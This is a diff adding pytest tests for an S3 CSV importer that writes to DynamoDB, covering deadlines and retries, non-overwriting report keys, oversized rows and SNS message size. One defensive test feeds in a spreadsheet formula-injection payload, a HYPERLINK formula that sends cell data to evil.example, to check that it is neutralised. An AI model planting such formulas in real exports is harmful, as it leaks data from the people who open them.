@@ -20,6 +20,7 @@ from pathlib import Path
 from typing import Any, Optional
 from urllib.parse import quote_plus
 
+import anyio
 import pytest
 
 pytest.importorskip("aioboto3")
@@ -556,21 +557,63 @@ async def test_unprocessed_items_given_up_are_rejected_rows(env: Aws) -> None:
 
 
 async def test_deadline_stops_retries_and_reports_unwritten_rows(env: Aws) -> None:
+    """A retry the deadline refuses ends in one state, whatever the machine's speed: the
+    object failed with ImportDeadlineError and its rows are unwritten, never rejected.
+    No wall clock decides it: the context's time is frozen (120 s left, so the soft
+    deadline is 108 s away) and the seeded retry's first wait is 956 s, past it."""
     await env.put("slow.csv", students(200))
-    imp = importer(env, concurrency=2, retry=Retry(attempts=10_000, base=0.05, cap=0.05),
-                   deadline_margin=0.5)
+    retry = Retry(attempts=10_000, base=1000.0, cap=1000.0, seed=2)
+    assert Retry(attempts=10_000, base=1000.0, cap=1000.0, seed=2).delay(1) > 900
+    imp = importer(env, concurrency=1, retry=retry)
+    context = LambdaContext(120.0, clock=lambda: 0.0)
     async with imp.open_clients() as clients:
-        clients.dynamodb.batch_write_item = Throttle(
-            clients.dynamodb.batch_write_item, keep=1, times=10_000)
-        started = time.monotonic()
-        (obj,) = (await imp.run(s3_event(BUCKET, "slow.csv"), LambdaContext(2.0),
+        throttle = Throttle(clients.dynamodb.batch_write_item, keep=1, times=10_000)
+        clients.dynamodb.batch_write_item = throttle
+        (obj,) = (await imp.run(s3_event(BUCKET, "slow.csv"), context,
                                 clients=clients)).objects
-        elapsed = time.monotonic() - started
-    assert 1.4 < elapsed < 2.0
     assert obj.status == "failed" and isinstance(obj.exception, ImportDeadlineError)
-    assert obj.rows_written < 200
-    assert obj.rows_read == obj.rows_written + obj.rows_rejected + obj.rows_unwritten
-    assert obj.destination_key == "error/slow.csv"
+    assert "retry 1" in str(obj.exception)
+    assert throttle.calls == [25]  # one request: its retry was refused, nothing after it
+    assert (obj.rows_written, obj.rows_rejected, obj.write_retries) == (1, 0, 0)
+    assert obj.rows_unwritten == obj.rows_read - 1 >= 24
+    assert obj.destination_key == "error/slow.csv" and obj.unfinished is None
+    assert len(await env.items()) == 1
+
+
+async def test_no_time_left_starts_nothing_and_asks_for_a_retry(env: Aws) -> None:
+    """With the soft deadline already passed the object is not started; the invocation
+    must fail so that S3 invokes the function again (before: 'skipped', and lost)."""
+    await env.put("late.csv", students(3))
+    imp = importer(env, deadline_margin=100.0, cancel_margin=50.0)
+    (obj,) = (await imp.run(s3_event(BUCKET, "late.csv"), LambdaContext(60.0))).objects
+    assert obj.status == "failed" and obj.unfinished is not None
+    assert obj.unfinished.step == "start" and not obj.ok
+    assert await env.keys() == ["late.csv"] and await env.items() == {}
+
+
+def test_a_context_with_a_broken_clock_is_refused_as_the_engine_does() -> None:
+    """The importer reads the deadline with the engine's helper: a context whose clock
+    is broken is a ConfigurationError, not a silent run without a deadline."""
+    from asyncbatch import ConfigurationError
+
+    class Broken:
+        def get_remaining_time_in_millis(self) -> Any:
+            return float("nan")
+
+    imp = S3CsvImporter(Student, TABLE, key_attributes=("student_id", "course"))
+    with pytest.raises(ConfigurationError, match="not a finite number"):
+        anyio.run(imp.run, s3_event(BUCKET, "x.csv"), Broken())
+
+
+@pytest.mark.parametrize("anyio_backend", ["trio"])
+async def test_lambda_handler_refuses_to_run_inside_a_running_loop() -> None:
+    """The sync entry point checks for a running loop as process_partial_response does
+    (sniffio), trio included."""
+    from asyncbatch import ConfigurationError
+
+    imp = S3CsvImporter(Student, TABLE)
+    with pytest.raises(ConfigurationError, match="inside a running event loop"):
+        imp.lambda_handler(s3_event(BUCKET, "x.csv"))
 
 
 async def test_missing_table_is_fatal(env: Aws) -> None:
@@ -796,3 +839,131 @@ async def test_50000_rows_memory_stays_flat(
     print(f"\n{rows} rows, file {size / 1e6:.1f} MB, peak traced {extra / 1e6:.2f} MB")
     assert size > 14_000_000
     assert extra < size / 4, (extra, size)
+
+
+# -- never overwrite an object (issue 10, item 9) ----------------------------------
+
+
+async def test_report_keys_are_unique_per_source_object(env: Aws) -> None:
+    """incoming/a.csv's report is not the key a rejected incoming/a.errors.csv moves
+    to, and b.CSV and b.csv have a report each: nothing is overwritten."""
+    sources = ["incoming/a.csv", "incoming/a.errors.csv", "incoming/b.CSV", "incoming/b.csv"]
+    for index, key in enumerate(sources):
+        await env.put(key, HEADER + f"bad{index},x,y,z\n")
+    imp = importer(env)
+    result = await imp.run(s3_event(BUCKET, *sources))
+    assert [o.status for o in result.objects] == ["rejected"] * 4
+    reports = [o.errors_key for o in result.objects]
+    moved = [o.destination_key for o in result.objects]
+    assert reports == [imp.report_key(key) for key in sources]
+    assert len(set(reports) | set(moved)) == 8
+    assert sorted(await env.keys()) == sorted([*reports, *moved])  # type: ignore[type-var]
+    for index, report in enumerate(reports):
+        assert report is not None
+        data = await env.get(report)
+        assert data is not None
+        assert list(csv.reader(io.StringIO(data.decode())))[1][2] == f"bad{index}"
+
+
+async def test_moves_and_reports_never_replace_an_existing_object(env: Aws) -> None:
+    """Monday's archive/incoming/s.csv and an old report stay as they were: Tuesday's
+    file of the same name goes to a key with a unique suffix (conditional put for the
+    report, If-None-Match: * that moto refuses with 412; a checked copy for the move)."""
+    await env.put("archive/incoming/s.csv", "monday")
+    await env.put("reports/incoming/r.csv.errors.csv", "old report")
+    await env.put("incoming/s.csv", students(3))
+    await env.put("incoming/r.csv", students(2) + "bad,,,\n")
+    imp = importer(env)
+    archived, rejected = (await imp.run(s3_event(BUCKET, "incoming/s.csv", "incoming/r.csv"))
+                          ).objects
+    assert archived.status == "archived" and rejected.status == "rejected"
+    assert await env.get("archive/incoming/s.csv") == b"monday"
+    assert await env.get("reports/incoming/r.csv.errors.csv") == b"old report"
+    assert archived.destination_key is not None and rejected.errors_key is not None
+    assert archived.destination_key.startswith("archive/incoming/s.")
+    assert archived.destination_key.endswith(".csv")
+    assert archived.destination_key != "archive/incoming/s.csv"
+    assert await env.get(archived.destination_key) == students(3).encode()
+    assert rejected.errors_key.startswith("reports/incoming/r.csv.errors.")
+    report = await env.get(rejected.errors_key)
+    assert report is not None and b"bad" in report
+    with pytest.raises(Exception, match="PreconditionFailed"):  # what the put relies on
+        await env.s3.put_object(Bucket=BUCKET, Key="archive/incoming/s.csv", Body=b"x",
+                                IfNoneMatch="*")
+
+
+def test_prefixes_that_contain_one_another_are_refused() -> None:
+    from asyncbatch import ConfigurationError
+
+    with pytest.raises(ConfigurationError, match="must not contain one another"):
+        S3CsvImporter(Student, TABLE, error_prefix="error/", report_prefix="error/reports/")
+
+
+# -- spreadsheet formula injection (item 10) ---------------------------------------
+
+
+async def test_errors_csv_neutralises_formulas(env: Aws) -> None:
+    text = (HEADER
+            + 'A10001,=HYPERLINK("http://evil.example/?"&A1;"click"),-Reacher,\n'
+            + "@SUM(1),+1,\tTab,\n")
+    await env.put("f.csv", text)
+    (obj,) = (await importer(env).run(s3_event(BUCKET, "f.csv"))).objects
+    assert obj.status == "rejected" and obj.errors_key is not None
+    data = await env.get(obj.errors_key)
+    assert data is not None
+    table = list(csv.reader(io.StringIO(data.decode())))
+    first, second = table[1][2:], table[2][2:]
+    assert first[:3] == ["A10001", "'=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")",
+                         "'-Reacher"]
+    assert second[:3] == ["'@SUM(1)", "'+1", "'\tTab"]
+    cells = [cell for row in table for cell in row]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+
+
+# -- large input (item 11) -----------------------------------------------------------
+
+
+async def test_a_huge_quoted_cell_costs_its_row_only(env: Aws) -> None:
+    """A quoted cell over csv's 128 KiB limit, with line breaks in it: that row is
+    rejected with the reason, the rows after it are imported (before: the rest of the
+    file became one broken row)."""
+    big = ("word, " * 40 + "\n") * 700  # ~170 KB
+    text = (HEADER + "A10001,Jack,Reacher,Physics\n"
+            + f'A10002,Sherlock,Holmes,"{big}"\n'
+            + "A10003,Jane,Marple,Knitting\n" + 'A10004,"Nero","Wolfe","Orchids, rare"\n')
+    await env.put("big.csv", text)
+    (obj,) = (await importer(env).run(s3_event(BUCKET, "big.csv"))).objects
+    assert (obj.status, obj.rows_read, obj.rows_written, obj.rows_rejected) == \
+        ("rejected", 4, 3, 1)
+    (error,) = obj.errors
+    assert error.line == 3 and "field larger than field limit" in error.message
+    assert set(await env.items()) == {("A10001", "Physics"), ("A10003", "Knitting"),
+                                      ("A10004", "Orchids, rare")}
+
+
+async def test_a_row_over_max_row_size_is_skipped_and_the_rest_imported(env: Aws) -> None:
+    text = HEADER + f'A10001,"{"x" * 5000}",b,c\n' + students(3, start=5)[len(HEADER):]
+    await env.put("wide.csv", text)
+    (obj,) = (await importer(env, max_row_size=4096).run(s3_event(BUCKET, "wide.csv"))
+              ).objects
+    assert (obj.rows_read, obj.rows_written, obj.rows_rejected) == (4, 3, 1)
+    assert "longer than 4,096 characters" in obj.errors[0].message
+
+
+async def test_a_file_with_no_line_break_is_a_clear_header_error(env: Aws) -> None:
+    await env.put("one-line.csv", "a," * 600_000)
+    (obj,) = (await importer(env).run(s3_event(BUCKET, "one-line.csv"))).objects
+    assert obj.status == "failed" and isinstance(obj.exception, CsvHeaderError)
+    assert "longer than" in str(obj.exception)
+
+
+async def test_summary_of_a_very_wide_header_reaches_sns(env: Aws) -> None:
+    """A fatal error on a 40,000-column header: the SNS message stays under the limit
+    and is delivered (before: a 510 KB message that SNS refused)."""
+    header = ",".join(f"column_{i:06d}" for i in range(40_000)) + "\n"
+    await env.put("wide-header.csv", header + "1\n")
+    (obj,) = (await importer(env).run(s3_event(BUCKET, "wide-header.csv"))).objects
+    assert obj.status == "failed" and isinstance(obj.exception, CsvHeaderError)
+    assert obj.message_id is not None
+    (message,) = await env.messages()
+    assert message["body"]["status"] == "failed" and "student_id" in message["body"]["error"]
